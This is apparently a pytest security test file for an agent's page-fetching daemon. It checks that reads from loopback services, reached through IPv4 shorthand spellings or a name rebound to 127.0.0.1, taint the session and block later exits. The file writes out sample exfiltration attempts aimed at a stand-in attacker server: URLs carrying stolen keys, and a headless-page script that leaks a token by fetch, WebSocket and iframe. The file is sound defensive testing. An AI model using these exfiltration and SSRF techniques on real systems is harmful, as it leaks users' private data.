"""Issue 23, the network half: the address a source connected to decides what is private, not how the URL spells
the host. Each attack runs against the real daemon over real sockets, with a local service on 127.0.0.1:

* an IPv4 shorthand the agent picks (``127.1``, ``0x7f.1``, ``2130706433``, ``0177.0.0.1``) reads the local
  service: the session is tainted like any private read, and the exit to the attacker's host is held;
* a public-looking name that resolves to loopback (the resolver is mapped through the same seam the DNS
  rebinding tests use: ``socket.getaddrinfo`` for trawl, whose answer the daemon's proxy connects Chromium to;
  ``--host-resolver-rules`` gives Chromium's own resolver, which the proxy leaves unused, the same answer) is private
  content, through the HTTP source, headless Chromium and the page cache (after a restart too), and meets the
  private-network rule exactly as ``127.0.0.1`` does;
* a tainted session's headless page whose script sends to the attacker (fetch, a WebSocket, a frame): the
  attacker's server receives nothing, while the page's own site still answers. The same page in a session that
  read nothing private does reach the attacker (the attack is mounted).

Every "nothing was received" is asserted after the daemon answered and, for pages, after the page's script wrote
what it saw of its own requests into the page (the settled capture shows it), never after a sleep.
"""

from __future__ import annotations

import json
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from trawl.cache.codec import CorruptEntry, decode, encode
from trawl.exitflow import FlowMemory, note_read, private_addresses
from trawl.exits import site_of
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings
from trawl.sources.file import FileSource
from trawl.sources.http import HttpSource
from trawl.sources.playwright import PlaywrightSource
from trawl.types import Page

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_private_hosts import Rebinding, assert_refused, v1_fetch

SERVICE_SECRET = "Wq4Ns8Lp2Vx6Hd9Kt3Rb7"  # on the local service's page
NAME = "rebind.test"  # a public-looking name (Rebinding answers for it); nothing about it says "local"
SHORTHANDS = ["127.1", "0x7f.1", "2130706433", "0x7f.0.0.1", "0177.1"]
OCTAL = ["0177.0.0.1", "00177.0.0.01"]  # trawl refuses these as invalid URLs before any source (httpx's parser)
PUBLIC_TEXT = "The harbour office lists the ferry times to the outer islands for every day of the week."


@pytest.fixture
async def service() -> AsyncIterator[tuple[Server, int]]:
    """A local service on 127.0.0.1 whose pages show a secret (a dev server, a NAS, an intranet wiki)."""
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        return web.Response(text=page("Staging", f"<p>The staging deploy key is {SERVICE_SECRET}; keep it in the "
                                                 "team.</p>"), content_type="text/html")

    runner, port = await serve("127.0.0.1", handle)
    srv.url = f"http://127.0.0.1:{port}"
    yield srv, port
    await runner.cleanup()


@pytest.fixture
def name_at_loopback(monkeypatch: pytest.MonkeyPatch) -> Rebinding:
    """``rebind.test`` resolves to 127.0.0.1 for trawl's resolver (every other name resolves as usual)."""
    resolver = Rebinding([["127.0.0.1"]])
    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    return resolver


def sources_for(settings: Settings) -> list[Any]:
    """The daemon's own sources, Chromium's resolver mapping the name like trawl's does."""
    return [FileSource(), HttpSource(settings),
            PlaywrightSource(settings, extra_args=(f"--host-resolver-rules=MAP {NAME} 127.0.0.1",))]


def held(body: dict[str, Any]) -> None:
    assert body["ok"] is False and body["error"]["code"] == "exit_held", body
    assert "private content" in body["error"]["message"], body["error"]


# ------------------------------------------------------------------------------------- IPv4 shorthands
@pytest.mark.parametrize("spelling", SHORTHANDS)
async def test_a_read_through_an_ipv4_shorthand_taints_the_session(tmp_path: Path, attacker: Server,
                                                                   service: tuple[Server, int],
                                                                   spelling: str) -> None:
    srv, port = service
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        body = await fetch(d, f"http://{spelling}:{port}/wiki/deploy", query="deploy key")
        assert body["ok"] is True and SERVICE_SECRET in str(body["chunks"]), body
        held(await fetch(d, f"{attacker.url}/c?k={SERVICE_SECRET[::-1]}"))
    assert srv.hits == ["/wiki/deploy"]  # the read was real...
    assert attacker.hits == []  # ...and nothing went out


@pytest.mark.parametrize("spelling", OCTAL)
async def test_a_dotted_octal_address_is_never_read_as_a_public_page(tmp_path: Path, chromium: str,
                                                                      attacker: Server, service: tuple[Server, int],
                                                                      spelling: str) -> None:
    srv, port = service
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium)
    async with RunningDaemon(settings, warm=False) as d:
        for source in (None, "http", "playwright"):
            body = await v1_fetch(d, f"http://{spelling}:{port}/wiki/deploy", query="", **({"source": source}
                                                                                         if source else {}))
            assert body["ok"] is False and SERVICE_SECRET not in str(body), body
    assert srv.hits == []


# ------------------------------------------------------------------------- a public name at loopback
@pytest.mark.parametrize("source", ["http", "playwright"])
async def test_a_public_name_that_resolves_to_loopback_is_private_content(
    tmp_path: Path, chromium: str, attacker: Server, service: tuple[Server, int], name_at_loopback: Rebinding,
    source: str,
) -> None:
    srv, port = service
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=30.0)
    async with RunningDaemon(settings, sources=sources_for(settings), warm=False) as d:
        body = await v1_fetch(d, f"http://{NAME}:{port}/wiki/deploy", query="deploy key", source=source)
        assert body["ok"] is True and body["source"] == source and SERVICE_SECRET in str(body["chunks"]), body
        # The data may go back where it lives (the name, on that port: the service's own site)...
        back = await v1_fetch(d, f"http://{NAME}:{port}/wiki/edit?k={SERVICE_SECRET}", query="", source="http")
        assert back["ok"] is True, back
        # ...and nowhere else.
        held(await v1_fetch(d, f"{attacker.url}/c?k={SERVICE_SECRET[::-1]}", query=""))
    assert name_at_loopback.calls >= 1
    assert srv.hits[0] == "/wiki/deploy" and "/wiki/edit?k=" + SERVICE_SECRET in srv.hits
    assert attacker.hits == []


async def test_a_cached_page_from_a_loopback_address_stays_private_after_a_restart(
    tmp_path: Path, attacker: Server, service: tuple[Server, int], name_at_loopback: Rebinding,
) -> None:
    srv, port = service
    settings = daemon_settings(tmp_path, allow_private_hosts=True)
    url = f"http://{NAME}:{port}/wiki/deploy"
    async with RunningDaemon(settings, sources=sources_for(settings), warm=False) as d:
        assert (await v1_fetch(d, url, query="deploy key", source="http"))["ok"]
    async with RunningDaemon(settings, sources=sources_for(settings), warm=False) as d:
        body = await v1_fetch(d, url, query="deploy key", source="http")
        assert body["ok"] is True and "page" in body["cached"], body  # served from the disk cache, no connection
        held(await v1_fetch(d, f"{attacker.url}/c?k={SERVICE_SECRET[::-1]}", query=""))
    assert srv.hits == ["/wiki/deploy"]
    assert attacker.hits == []


@pytest.mark.parametrize("source", [None, "http", "playwright"])
async def test_a_public_name_at_loopback_meets_the_private_network_rule_like_127_0_0_1(
    tmp_path: Path, chromium: str, service: tuple[Server, int], name_at_loopback: Rebinding, source: str | None,
) -> None:
    srv, port = service
    settings = daemon_settings(tmp_path, allow_private_hosts="none", chromium_path=chromium)
    async with RunningDaemon(settings, sources=sources_for(settings), warm=False) as d:
        extra = {"source": source} if source else {}
        by_name = await v1_fetch(d, f"http://{NAME}:{port}/wiki/deploy", **extra)
        by_address = await v1_fetch(d, f"http://127.0.0.1:{port}/wiki/deploy", **extra)
    for body in (by_name, by_address):
        assert_refused(body)
        assert "loopback" in body["error"]["message"] and "127.0.0.1" in body["error"]["message"], body
    assert srv.hits == []


# --------------------------------------------------------------------------- a headless page's own requests
@pytest.mark.parametrize("tainted", [True, False], ids=["tainted", "clean-session"])
async def test_a_tainted_sessions_headless_page_cannot_send_to_the_attacker(
    tmp_path: Path, chromium: str, attacker: Server, tainted: bool,
) -> None:
    """A local service's notes are read (private: the session is tainted, and its own origin may get data back);
    the agent then opens a page of that origin through headless Chromium with data in its URL, and the page's script
    tries to pass it on: fetch() to another host, a WebSocket, a frame, and a fetch to another port of the same
    host (the same site, another origin: another service). Only after each settled (refused or not) does the script
    fetch its own origin and write the page's text."""
    hits: list[str] = []
    other_port = attacker.url.replace("127.0.0.1", "localhost")  # same site as the page, another origin
    steps = {"fetch": f"{attacker.url}/c?k=", "ws": attacker.url.replace("http://", "ws://") + "/ws?k=",
             "same_site": f"{other_port}/same-site?k="}
    script = f"""<script>
      const k = encodeURIComponent(location.search), out = document.querySelector('#out');
      const frame = document.createElement('iframe');
      frame.src = {json.dumps(attacker.url + '/frame?k=')} + k; document.body.append(frame);
      const tried = url => fetch(url + k, {{mode: 'no-cors'}}).then(() => 'answered', () => 'failed');
      tried({json.dumps(steps['fetch'])})
        .then(how => tried({json.dumps(steps['same_site'])}).then(again => how + ' ' + again))
        .then(how => new Promise(done => {{
          const ws = new WebSocket({json.dumps(steps['ws'])} + k);
          ws.onerror = ws.onclose = () => done(how + ' socket-closed');
        }}))
        .then(how => fetch('/own').then(r => r.text()).then(t => {{
          out.textContent = {json.dumps(' '.join([PUBLIC_TEXT] * 3))} + ' Exfil ' + how + '. ' + t; }}));
    </script>"""

    async def handle(request: web.Request) -> web.Response:
        hits.append(str(request.rel_url))
        if request.path == "/own":
            return web.Response(text="The own site answered.")
        if request.path == "/notes":
            return web.Response(text=page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>"),
                                content_type="text/html")
        return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")

    runner, port = await serve("127.0.0.1", handle)
    # The page waits (near-empty) until its script has written; generous, so a loaded machine settles it too.
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_empty_wait_s=40.0,
                               render_timeout_s=50.0, request_timeout_s=90.0)
    try:
        async with RunningDaemon(settings, warm=False) as d:
            if tainted:
                notes = await v1_fetch(d, f"http://localhost:{port}/notes", query="", source="http")
                assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
            body = await v1_fetch(d, f"http://localhost:{port}/harbour?k={TOKEN}", query="", source="playwright")
    finally:
        await runner.cleanup()
    assert body["ok"] is True and body["source"] == "playwright", body
    text = str(body["chunks"])
    assert "ferry times" in text and "own site answered" in text and "socket-closed" in text, text  # it all ran
    assert hits.count("/own") == 1
    if tainted:
        assert attacker.hits == [], f"the attacker received {attacker.hits}"
        assert any("held by trawl's exit rule" in w for w in body["warnings"]), body["warnings"]
    else:  # the same page in a session that read nothing private: the attack is real
        for path in ("/c?k=", "/same-site?k=", "/ws?k="):
            assert any(h.startswith(path) for h in attacker.hits), (path, attacker.hits)


# ------------------------------------------------------------------------------------------ the pieces
def test_the_cache_keeps_the_addresses_and_drops_entries_written_without_them() -> None:
    p = Page(url="http://rebind.test/", final_url="http://rebind.test/", kind="html", source="http", html="<p>x</p>",
             addresses=("127.0.0.1",))
    target, back = decode(encode("http://rebind.test/", p))
    assert target == "http://rebind.test/" and back.addresses == ("127.0.0.1",)
    blob = encode("http://rebind.test/", p)
    head_len = int.from_bytes(blob[9:13], "big")
    header = json.loads(blob[13:13 + head_len])
    del header["addresses"]
    old = json.dumps(header).encode()
    with pytest.raises(CorruptEntry, match="addresses"):
        decode(blob[:9] + len(old).to_bytes(4, "big") + old + blob[13 + head_len:])


@pytest.mark.parametrize(("addresses", "private"), [
    (("127.0.0.1",), "127.0.0.1"), (("::ffff:7f00:1",), "127.0.0.1"), (("93.184.215.14", "10.1.2.3"), "10.1.2.3"),
    (("::1",), "::1"), (("93.184.215.14",), ""), ((), ""), (("not-an-address",), ""),
])
def test_private_addresses_reads_the_canonical_form(addresses: tuple[str, ...], private: str) -> None:
    assert private_addresses(addresses) == private


def test_a_page_served_outside_an_agent_call_records_nothing(tmp_path: Path) -> None:
    mem = FlowMemory(daemon_settings(tmp_path), site_of)
    note_read("http://rebind.test/", ("127.0.0.1",))  # no call began: nothing is recorded, nothing breaks
    mem.observe("fetch", {"url": "http://rebind.test/", "final_url": "http://rebind.test/", "source": "http"})
    assert not mem.session().private
